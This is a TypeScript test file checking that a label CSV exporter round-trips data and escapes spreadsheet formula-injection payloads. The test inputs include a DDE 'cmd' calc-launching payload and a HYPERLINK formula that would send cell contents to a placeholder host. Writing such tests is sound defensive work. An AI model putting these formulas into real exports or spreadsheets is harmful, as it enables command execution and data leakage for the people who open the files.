import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import type { Label } from '../../../../../src/core/api/label.ts';
import { editableValues, type LabelChanges } from '../../../../../src/core/api/labelFields.ts';
import type { ImportRows } from '../../../../../src/core/labels/exchange/importRows.ts';
import {
  csvHeader,
  FieldColumns,
  guardedCsv,
  tabSeparatedText,
} from '../../../../../src/core/labels/exchange/labelCsv.ts';
import { readImport, wantedByImport } from '../../../../../src/core/labels/exchange/labelImport.ts';
import { labelColumns } from '../../../../../src/core/labels/labelColumns.ts';
import { generateLabels } from '../../../../../src/sandbox/labelGenerator.ts';
import { planAmong } from '../../../../support/planning.ts';
import { spreadsheetWorker } from '../../../../support/spreadsheetWorker.ts';
import { arbitraryLabels, labelOf } from '../arbitraryLabels.ts';

function fileOf(labels: readonly Label[], columns: readonly string[] = labelColumns): string {
  return csvHeader(columns) + linesOf(labels, columns);
}

function linesOf(labels: readonly Label[], columns: readonly string[] = labelColumns): string {
  return guardedCsv(labels.map(({ record }) => columns.map((column) => record[column])));
}

async function imported(text: string): Promise<ImportRows> {
  return await readImport(new TextEncoder().encode(text), { spreadsheetWorker });
}

/** What an import takes from a label: no field that is blank. */
function importedValues(label: Label): LabelChanges {
  return editableValues(
    Object.fromEntries(
      Object.entries(editableValues(label)).filter(([, value]) => String(value).trim() !== ''),
    ),
  );
}

/** Returns whether a file can hold the texts of a label. */
function isWritable(label: Label): boolean {
  return Object.values(label.record).every(
    (value) => typeof value !== 'string' || value.isWellFormed(),
  );
}

describe('labelCsv', () => {
  it('writes a header and one line for each label, with an empty cell for what is not there', () => {
    const label = labelOf({ id: '1', labelName: 'A "B", C', labelStatus: -1 });
    assert.equal(
      fileOf([label]),
      '"id","labelCode","labelName","labelStatus"\r\n"1","","A ""B"", C","-1"\r\n',
    );
  });

  it('is read back unchanged, whatever the texts are', async () => {
    await fc.assert(
      fc.asyncProperty(arbitraryLabels, async (all) => {
        const labels = all.filter(isWritable);
        const reading = await imported(fileOf(labels));
        assert.deepEqual(reading.problems, []);
        assert.deepEqual(
          Array.from(reading.rows, ([id, { changes }]) => ({ id, changes })),
          labels.map((label) => ({ id: label.id, changes: importedValues(label) })),
        );
        const { changes, gone, unchanged } = planAmong(wantedByImport(reading), labels);
        assert.deepEqual([changes, gone, unchanged], [[], [], labels.length]);
      }),
      { numRuns: 150 },
    );
  });

  it('is read back unchanged where parts of a cell are guarded', async () => {
    const labels = [
      labelOf({ id: '1;=1', labelCode: "C;=cmd|'/C calc'!A0;x", labelName: "a\n'-b\t=c" }),
    ];
    const file = fileOf(labels);
    assert.match(file, /^"1;'=1","C;'=cmd\|'/m);
    assert.deepEqual(
      Array.from((await imported(file)).rows, ([id, { changes }]) => ({ id, changes })),
      labels.map((label) => ({ id: label.id, changes: importedValues(label) })),
    );
  });

  it('is read back whatever became of its header, and as earlier versions wrote it', async () => {
    const labels = [
      labelOf({ id: '1784519230001240123', labelCode: '007', labelName: "'=1+1" }),
      labelOf({ id: '2', labelCode: "'A", labelName: '3 of 4' }),
    ];
    const text = fileOf(labels);
    const reading = await imported(text.replace(/^.*\r\n/, 'ID,LabelCode,LABELNAME,x\r\n'));
    assert.deepEqual(
      Array.from(reading.rows, ([id, { changes }]) => [id, changes]),
      [
        ['1784519230001240123', { labelCode: '007', labelName: "'=1+1" }],
        ['2', { labelCode: "'A", labelName: '3 of 4' }],
      ],
    );
    const withoutGuards = await imported("id,labelName\r\n1784519230001240123,'=1+1\r\n");
    assert.deepEqual(
      Array.from(withoutGuards.rows.values(), ({ changes }) => changes),
      [{ labelName: "'=1+1" }],
    );
    const earlier = await imported(
      "'id;'labelName;labelCode\r\n'1;'Company car 3;'Company car 3\r\n",
    );
    assert.deepEqual(
      Array.from(earlier.rows.values(), ({ changes }) => changes),
      [{ labelCode: "'Company car 3", labelName: 'Company car 3' }],
    );
  });

  it('has a column for each field that the service has sent, which an import leaves aside', async () => {
    const labels = [
      labelOf({ id: '1', labelName: 'A', color: '=red', size: 2 }),
      labelOf({ labelCode: 'B', id: '2', tags: ['x', { y: null }], size: null, isOld: true }),
      labelOf({ id: '3', big: JSON.rawJSON('12345678901234567890') }),
    ];
    const found = new FieldColumns();
    labels.forEach((label) => found.add(label));
    const columns = found.names();
    assert.deepEqual(columns, [...labelColumns, 'color', 'size', 'tags', 'isOld', 'big']);
    assert.deepEqual(fileOf(labels, columns).split('\r\n'), [
      '"id","labelCode","labelName","labelStatus","color","size","tags","isOld","big"',
      `"1","","A","","'=red","2","","",""`,
      `"2","B","","","","","[""x"",{""y"":null}]","'true",""`,
      `"3","","","","","","","","'12345678901234567890"`,
      '',
    ]);
    const reading = await imported(fileOf(labels, columns));
    assert.deepEqual(reading.ignoredColumns, ['color', 'size', 'tags', 'isOld', 'big']);
    assert.deepEqual(Array.from(reading.rows.keys()), ['1', '2', '3']);
  });

  it('has headers that are read back, whatever the names of the additional fields are', async () => {
    const name = fc
      .oneof(
        fc.constantFrom(
          '=cmd',
          "'=cmd",
          'a;=b',
          "a;'=b",
          "'x",
          '=1;-2',
          ' =x ',
          '-5',
          '007',
          '1-2',
        ),
        fc.string({ unit: 'binary', minLength: 1 }),
      )
      .filter(
        (any) =>
          any.isWellFormed() &&
          any.trim() !== '' &&
          !labelColumns.some(
            (column) => column.toLowerCase() === any.replace(/^'/, '').trim().toLowerCase(),
          ),
      );
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(name, { maxLength: 5 }), async (names) => {
        const label = labelOf({
          ...Object.fromEntries(names.map((each) => [each, 'x'])),
          id: '1',
          labelName: 'A',
        });
        const columns = [...labelColumns, ...names];
        const reading = await imported(fileOf([label], columns));
        assert.deepEqual(
          reading.ignoredColumns,
          names.map((each) => each.trim()),
        );
        assert.deepEqual(reading.rows.get(label.id)?.changes, { labelName: 'A' });
      }),
      { numRuns: 500 },
    );
  });

  it('makes rows to be pasted into a spreadsheet, which converts none of them', async () => {
    const labels = [
      labelOf({ id: '1', labelCode: 'A', labelName: 'One', labelStatus: 2 }),
      labelOf({ id: '1784519230001240123', labelCode: '007', labelName: '=1+1' }),
      labelOf({ id: '2', labelName: 'Two\tor "2"' }),
    ];
    assert.deepEqual((await tabSeparatedText(labels)).split('\n'), [
      '1\tA\tOne\t2',
      "'1784519230001240123\t'007\t'=1+1\t",
      `2\t\t"Two\tor ""2"""\t`,
      '',
    ]);
  });

  it('leaves the names of labels alone', () => {
    const options = { labels: 5000, seed: 1, oddLabels: true };
    const names = generateLabels('acme', options).flatMap(({ labelName }) => labelName ?? []);
    const guarded = names.filter((labelName) =>
      linesOf([labelOf({ id: 'A', labelName })]).includes(`"'`),
    );
    assert.ok(names.length > 4900);
    assert.deepEqual(
      new Set(guarded),
      new Set(['=HYPERLINK("http://example.invalid/?x="&A1,"Open")']),
    );
  });

  it('leaves a cell empty whose text no file can hold', () => {
    const label = labelOf({ id: 'A', labelName: 'half \uD83D', labelCode: 'B' });
    assert.equal(linesOf([label]), '"A","B","",""\r\n');
  });
});
